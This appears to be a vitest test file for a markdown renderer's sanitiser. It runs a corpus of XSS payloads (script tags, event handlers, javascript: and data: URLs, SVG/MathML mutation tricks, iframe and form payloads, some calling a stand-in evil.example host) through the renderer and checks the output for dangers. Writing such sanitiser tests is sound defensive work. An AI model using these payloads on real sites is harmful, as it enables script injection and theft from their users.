import { type DefaultTreeAdapterMap, html as htmlNames, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { frameHosts } from './embeds/providers.ts';
import { profiles, type Profile } from './profiles.ts';
import { renderMarkdown } from './render.ts';

const ELEMENTS = new Set(
  (
    'a abbr b blockquote br cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i iframe ' +
    'img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td tfoot th thead ' +
    'tr u ul var wbr'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  (
    'href name title target rel class src alt width height loading align colspan rowspan scope start reversed open ' +
    'referrerpolicy sandbox allow'
  ).split(' '),
);

type Node = DefaultTreeAdapterMap['childNode'];

/** What a browser's parser finds in the HTML that it should not. Independent of the sanitiser and its parser. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const walk = (node: Node): void => {
    if (node.nodeName === '#comment') found.push('comment');
    if (!('tagName' in node)) return;
    if (!ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
    if (node.namespaceURI !== htmlNames.NS.HTML) found.push(`namespace ${node.namespaceURI}`);
    for (const { name, value } of node.attrs) {
      if (!ATTRIBUTES.has(name)) found.push(`${node.tagName} ${name}`);
      if (name === 'href' && !harmlessLink(value)) found.push(`href ${value}`);
      if (name === 'src' && !/^https?:\/\//i.test(value)) found.push(`src ${value}`);
    }
    if (node.tagName === 'iframe') found.push(...frameDangers(node));
    node.childNodes.forEach(walk);
  };
  parseFragment(html).childNodes.forEach(walk);
  return found;
}

/** Whether a browser would go to the web, or to somebody's mailbox; off the site only by an address that says so. */
function harmlessLink(value: string): boolean {
  const address = URL.parse(value, 'https://site.example/page');
  if (address === null || address.protocol === 'mailto:') return true;
  return ['http:', 'https:'].includes(address.protocol) && (address.host === 'site.example' || /^https?:/i.test(value));
}

function frameDangers(frame: DefaultTreeAdapterMap['element']): string[] {
  const attribute = (name: string) => frame.attrs.find((candidate) => candidate.name === name)?.value ?? '';
  const source = URL.parse(attribute('src'));
  const known = source?.protocol === 'https:' && frameHosts.has(source.hostname);
  return [
    ...(known ? [] : [`frame of ${attribute('src')}`]),
    ...(attribute('sandbox').startsWith('allow-scripts') ? [] : ['frame without sandbox']),
  ];
}

const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x00>alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" src="https://a.example/b.png">',
  '<img/src/onerror=alert(1)>',
  '<img src="https://a.example/b.png" onload=alert(1) style="x:expression(alert(1))">',
  '<img src=javascript:alert(1)>',
  '<img src="https://a.example/b.png" srcset="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example" onclick="alert(1)" target="_self" rel="opener">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://a.example/b.png)',
  '![x](https://a.example/b.png"onerror="alert(1))',
  '<javascript:alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>',
  '<iframe src="https://codepen.io/evil/full/abcdef" sandbox="allow-top-navigation"></iframe>',
  '{% youtube dQw4w9WgXcQ %}\n\n<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" onload=alert(1) srcdoc=x>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"><script>alert(1)</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a id=location name=x>x</a><img name=getElementById>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script></option></select>',
  '<plaintext><script>alert(1)</script>',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<table><td><a href="javascript:alert(1)">x</table>',
  '<b <script>alert(1)</script>0',
  '<a href="https://a.example/" title="</a><script>alert(1)</script>">x</a>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```x"onclick="alert(1)\ny\n```',
  '# <script>alert(1)</script> "><img src=x onerror=alert(1)>',
  '@"><script>alert(1)</script>',
  '@user<img src=x onerror=alert(1)>',
  '{% embed https://a.example/"><script>alert(1)</script> %}',
  '{% embed https://a.example/?x=<svg/onload=alert(1)> %}',
  '{% embed https://codepen.io/a"onload="alert(1)/pen/abcdef %}',
  '{% embed https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=1"onload=alert(1) %}',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '> <div onmouseover=alert(1)>\n> x',
  '- <p>\n  <script>alert(1)</script>',
];

describe('sanitising', () => {
  const profileNames = Object.keys(profiles) as Profile[];

  it.each(CORPUS)('%j does no harm', (markdown) => {
    for (const profile of profileNames) expect(dangers(renderMarkdown(markdown, { profile }).html)).toEqual([]);
  });

  it('does no harm when hostile pieces are put together', () => {
    for (const first of CORPUS) {
      const markdown = CORPUS.map((second) => `${first}${second}`).join('\n');
      expect(dangers(renderMarkdown(markdown, { profile: 'comment' }).html)).toEqual([]);
    }
  });

  it('is noticed by this test when something is wrong', () => {
    expect(
      dangers(
        '<p onclick="x"><svg></svg><a href="javascript:x">y</a><a href="//evil.example">y</a><iframe src="https://evil.example"></p>',
      ),
    ).toEqual(
      expect.arrayContaining([
        'p onclick',
        '<svg>',
        'href javascript:x',
        'href //evil.example',
        'frame of https://evil.example',
      ]),
    );
  });

  it('keeps harmless HTML', () => {
    const html = '<details><summary>More</summary>\n<p>Press <kbd>Ctrl</kbd> H<sub>2</sub>O</p>\n</details>\n';
    expect(renderMarkdown(html, { profile: 'article' }).html).toBe(html);
  });

  it.each([
    ['<img src="data:image/svg+xml;base64,AAAA">'],
    ["text <img src = 'data:text/javascript,alert(1)'>"],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['[x](data:text/html;base64,AAAA)'],
  ])('refuses the data address of %j', (markdown) => {
    expect(() => renderMarkdown(markdown, { profile: 'article' })).toThrow('Invalid markdown detected!');
  });

  it('allows to write about data addresses in code', () => {
    const { html } = renderMarkdown('`src="data:x"` and\n\n```\ndata:text/html,<b>\n```\n', { profile: 'article' });
    expect(html).toContain('<code>src="data:x"</code>');
    expect(html).toContain('data:text/html,&lt;b&gt;');
  });
});
